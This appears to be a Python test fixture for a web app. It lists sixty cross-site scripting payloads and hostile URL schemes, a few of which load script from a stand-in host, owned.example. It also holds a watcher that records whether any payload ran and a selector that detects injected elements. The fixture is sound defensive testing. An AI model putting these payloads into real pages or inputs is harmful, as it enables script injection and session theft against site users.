"""Sixty ways to make a page run, fetch or submit something, each of which would leave the word `owned` behind."""

from __future__ import annotations

PAYLOADS = (
    # short ones first: a dozen of them fit into one field of 500 characters
    "<script>owned()</script>",
    "<img src=/owned onerror=owned()>",
    "<svg/onload=owned()>",
    "<b hx-get=/owned hx-trigger=load>",
    "<i data-hx-get=/owned data-hx-trigger=load>",
    "<p hx-on:load=owned()>",
    '"><a href=javascript:owned()>x</a>',
    "' autofocus onfocus=owned() x='",
    "{{constructor.constructor('owned()')()}}",
    "</title><script>owned()</script>",
    "<iframe srcdoc='<script>parent.owned()</script>'>",
    "</textarea><script>owned()</script>",
    # the others
    "<ScRiPt>owned()</sCrIpT>",
    "<script src=/owned></script>",
    "<script src=//owned.example/x></script>",
    "<script src=data:,owned()></script>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<<script>owned()//<</script>",
    "</script><script>owned()</script>",
    "--></script><script>owned()</script>",
    "<!--<img src='--><img src=/owned onerror=owned()>",
    "<img src=x onerror=&#111;wned()>",
    "<img/src='x'/onerror='owned()'>",
    "<img src=`/owned` onerror=`owned()`>",
    '<img """><script>owned()</script>">',
    "<img srcset=/owned>",
    "<picture><source srcset=/owned><img></picture>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><use href='/owned#x'/></svg>",
    "<svg><image href=/owned /></svg>",
    "<math><mtext><script>owned()</script></mtext></math>",
    "<body onload=owned()>",
    "<body onpageshow=owned()>",
    "<details open ontoggle=owned()>",
    "<video src=/owned onerror=owned()></video>",
    "<audio src=/owned onerror=owned()></audio>",
    "<video><source onerror=owned()></video>",
    "<input autofocus onfocus=owned()>",
    "<select autofocus onfocus=owned()>",
    "<textarea autofocus onfocus=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<style>@import '/owned';</style>",
    "<style>*{background:url(/owned)}</style>",
    "<div style=background:url(/owned)>",
    "<div style='animation-name:x' onanimationstart=owned()>",
    "<link rel=stylesheet href=/owned>",
    "<link rel=prefetch href=/owned>",
    "<meta http-equiv=refresh content='0;url=/owned'>",
    "<base href=//owned.example/>",
    "<object data=/owned></object>",
    "<embed src=/owned>",
    "<iframe src=/owned></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "<form action=/owned><button autofocus>x</button></form>",
    "<div hx-post=/owned hx-trigger='load' hx-include=body>",
    "<div hx-get=/owned hx-trigger='every 1s'>",
    "<div hx-trigger=load hx-vals='js:{a:owned()}' hx-get=/owned>",
    "<div hx-ext=owned hx-boost=true hx-swap-oob=true id=main>",
    "<div hx-on::after-request=owned() hx-get=/owned hx-trigger=revealed>",
)
ADDRESSES = (
    "javascript:owned()",
    "JaVaScRiPt://%0aowned()",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned()",
    "//owned.example/owned",
)
"""For the URL, which must never become a link that does any of this."""
WATCH = """
window.done = [];
window.owned = () => done.push("a script of theirs ran");
document.addEventListener("securitypolicyviolation", (event) => done.push(
  `policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
"""Runs before any page of the browser; `done` is what must stay empty."""
STRANGE = """() => [...document.querySelectorAll("*")].filter((part) =>
    part.matches("script:not([src]), iframe, object, embed, base, style, marquee, math, video, audio, img, picture")
    || [...part.attributes].some(({name, value}) =>
      name.startsWith("on") || /hx-on|hx-ext|srcdoc/.test(name)
      || (/owned/.test(value) && !/^(value|title|aria-label|content|placeholder|data-was|data-copy)$/.test(name))
      || (/^(href|action|formaction|src|xlink:href)$/.test(name) && /^(javascript|data|vbscript):/i.test(value.trim())))
  ).map((part) => part.outerHTML.slice(0, 120))"""
"""Elements that only their text could have made."""
